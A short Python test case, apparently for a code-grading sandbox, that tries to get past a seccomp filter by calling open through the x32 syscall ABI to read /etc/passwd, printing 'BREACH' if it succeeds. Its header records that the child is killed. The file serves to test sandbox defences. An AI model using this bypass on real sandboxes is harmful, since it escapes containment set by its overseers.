"""Tries: to call by the numbers of another processor mode (x32), which the filter might not know.

Happens: Such calls end the child.
"""
# outcome: killed, passed
# earns: 0

import ctypes
import os

if os.uname().machine == "x86_64":
    ctypes.CDLL(None).syscall(ctypes.c_long(0x40000000 | 2), b"/etc/passwd", 0)
    print("BREACH")


def answer(W, x):
    return None
